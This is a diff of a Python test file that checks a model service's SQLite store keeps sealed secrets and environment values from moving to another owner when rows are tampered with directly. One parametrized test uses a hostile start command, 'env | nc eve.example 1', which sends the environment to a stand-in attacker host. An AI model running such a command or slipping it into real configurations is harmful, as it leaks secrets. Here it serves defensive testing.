@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 import logging
 import os
 import shutil
@@ -20,6 +21,7 @@ from jupyter_model_service.adapters import store_file
 from jupyter_model_service.adapters.at_rest import AtRest, own_at_rest
 from jupyter_model_service.adapters.key_file import new_key
 from jupyter_model_service.adapters.store import SqlStore
+from jupyter_model_service.core.revision import Revision, revision_to_plain
 from jupyter_model_service.ports import Placement, ReplicaRecord
 
 from .samples import REVISION, SERVICE, as_before, bytes_in, events, refused, rows
@@ -43,7 +45,7 @@ async def use(store: SqlStore) -> None:
     """Rows that are written, written again, and removed."""
     await store.add_service(SERVICE, GIVEN)
     for number in range(2, 6):
-        await store.add_revision(SERVICE.id, replace(GIVEN, number=number))
+        await store.add_revision(SERVICE, replace(GIVEN, number=number))
     for id in SECRETS:
         await store.save_replica(replace(record(id), placement=None))
         await store.save_replica(record(id))
@@ -53,7 +55,7 @@ async def use(store: SqlStore) -> None:
 
 
 async def as_written(store: SqlStore) -> None:
-    assert await store.revisions(SERVICE.id) == [replace(GIVEN, number=number) for number in (1, 4, 5)]
+    assert await store.revisions(SERVICE) == [replace(GIVEN, number=number) for number in (1, 4, 5)]
     there = {each.id: each for each in await store.replicas()}
     assert there == {id: record(id) for id in SECRETS if id != "chat-000160"}
 
@@ -253,10 +255,10 @@ def test_a_key_that_is_lost_is_told_and_nothing_else_is_lost_with_it(
         assert "of 7 replicas" in told
         assert "of 3 revisions" in told
         assert await store.replicas() == [replace(record(id), secret="") for id in SECRETS if id != "chat-000160"]
-        first, *_ = await store.revisions(SERVICE.id)
+        first, *_ = await store.revisions(SERVICE)
         assert first == replace(GIVEN, environment=(), unread=("NOTE", "PASSWORD"))
-        await store.add_revision(SERVICE.id, replace(GIVEN, number=6))
-        assert (await store.revisions(SERVICE.id))[-1] == replace(GIVEN, number=6), "what is new is sealed with it"
+        await store.add_revision(SERVICE, replace(GIVEN, number=6))
+        assert (await store.revisions(SERVICE))[-1] == replace(GIVEN, number=6), "what is new is sealed with it"
         await store.remove_revision(SERVICE.id, 6)
         await store.close()
         kept.replace(key)
@@ -267,21 +269,96 @@ def test_a_key_that_is_lost_is_told_and_nothing_else_is_lost_with_it(
     asyncio.run(body())
 
 
+def changed(path: Path, statement: str, *values: object) -> None:
+    with closing(sqlite3.connect(path)) as connection, connection:
+        assert connection.execute(statement, values).rowcount > 0
+
+
+async def of_hers(store: SqlStore) -> Revision:
+    (service,) = [each for each in await store.services() if each.id == SERVICE.id]
+    (revision,) = await store.revisions(service)
+    return revision
+
+
 def test_who_can_write_rows_and_has_no_key_gets_nobodys_values_into_another_model(path: Path) -> None:
     async def body() -> None:
         store = await SqlStore.open(path)
         await store.add_service(SERVICE, GIVEN)
-        await store.add_service(replace(SERVICE, id="s2", owner="eve"), replace(GIVEN, environment=(("X", "y"),)))
+        other = replace(SERVICE, id="s2", owner="eve")
+        await store.add_service(other, replace(GIVEN, environment=(("X", "y"),)))
         await store.save_replica(record("chat-000160"))
         await store.save_replica(record("chat-000161"))
-        with closing(sqlite3.connect(path)) as connection, connection:
-            of = "(SELECT content FROM revisions WHERE service_id = 's1')"
-            connection.execute(f"UPDATE revisions SET content = {of} WHERE service_id = 's2'")
-            of = "(SELECT secret FROM replicas WHERE id = 'chat-000160')"
-            connection.execute(f"UPDATE replicas SET secret = {of}")
-        (hers,) = await store.revisions("s2")
+        of = "(SELECT content FROM revisions WHERE service_id = 's1')"
+        changed(path, f"UPDATE revisions SET content = {of} WHERE service_id = 's2'")
+        changed(path, "UPDATE replicas SET secret = (SELECT secret FROM replicas WHERE id = 'chat-000160')")
+        (hers,) = await store.revisions(other)
         assert (hers.environment, hers.unread) == ((), ("NOTE", "PASSWORD"))
         assert [each.secret for each in await store.replicas()] == [SECRETS["chat-000160"], ""]
+        await store.close()
+
+    asyncio.run(body())
+
+
+@pytest.mark.parametrize("other", ["owner", "number", "folder", "start_command", "image", "mounts", "kept"])
+def test_nor_changes_whose_or_which_model_it_is_that_gets_them(path: Path, other: str) -> None:
+    """Nor beside a gateway that runs: what it knows of the owner is what it was told, not what stands there now."""
+    content = revision_to_plain(GIVEN)
+    elsewhere: dict[str, object] = {
+        "folder": "/home/eve/chat",
+        "image": "eve/image",
+        "mounts": [{"source": "volume://eve", "target": "/x", "read_only": False}],
+        "kept": {**content["kept"], "kind": "copy", "path": "/home/eve/chat"},
+        "start_command": {**content["definition"], "start_command": ["/bin/sh", "-c", "env | nc eve.example 1"]},
+    }
+    statements: dict[str, tuple[str, ...]] = {
+        "owner": ("UPDATE services SET owner = 'eve'",),
+        "number": ("UPDATE revisions SET number = 2",),
+    }
+    field = "definition" if other == "start_command" else other
+    if other in elsewhere:
+        assert content[field] != elsewhere[other]
+        set_to = f"UPDATE revisions SET content = json_set(content, '$.{field}', json(?))"
+        statements[other] = (set_to, json.dumps(elsewhere[other]))
+
+    async def body() -> None:
+        store = await SqlStore.open(path)
+        await store.add_service(SERVICE, GIVEN)
+        assert (await of_hers(store)).environment == GIVEN.environment
+        changed(path, *statements[other])
+        found = await of_hers(store)
+        assert (found.environment, found.unread) == ((), ("NOTE", "PASSWORD"))
+        await store.close()
+
+    asyncio.run(body())
+
+
+def test_what_is_made_while_somebody_else_changes_rows_is_its_owners_all_the_same(path: Path) -> None:
+    """The gateway's word counts for whose a new revision is, not what stands in the row at that moment."""
+
+    async def body() -> None:
+        store = await SqlStore.open(path)
+        await store.add_service(SERVICE, REVISION)
+        changed(path, "UPDATE services SET owner = 'eve'")
+        await store.add_revision(SERVICE, replace(GIVEN, number=2))
+        (eves,) = await store.services()
+        assert [each.unread for each in await store.revisions(eves)] == [(), ("NOTE", "PASSWORD")]
+        assert [each.unread for each in await store.revisions(SERVICE)] == [(), ()]
+        await store.close()
+
+    asyncio.run(body())
+
+
+@pytest.mark.parametrize("place", ["service_id = 's2'", "revision = 2"])
+def test_a_replica_stands_for_no_other_service_or_revision(path: Path, place: str) -> None:
+    """Or the calls for one model would go to another."""
+
+    async def body() -> None:
+        store = await SqlStore.open(path)
+        for each in (SERVICE, replace(SERVICE, id="s2", owner="eve")):
+            await store.add_service(each, GIVEN)
+        await store.save_replica(record("chat-000160"))
+        changed(path, f"UPDATE replicas SET {place}")
+        assert [each.secret for each in await store.replicas()] == [""]
         await store.close()
 
     asyncio.run(body())
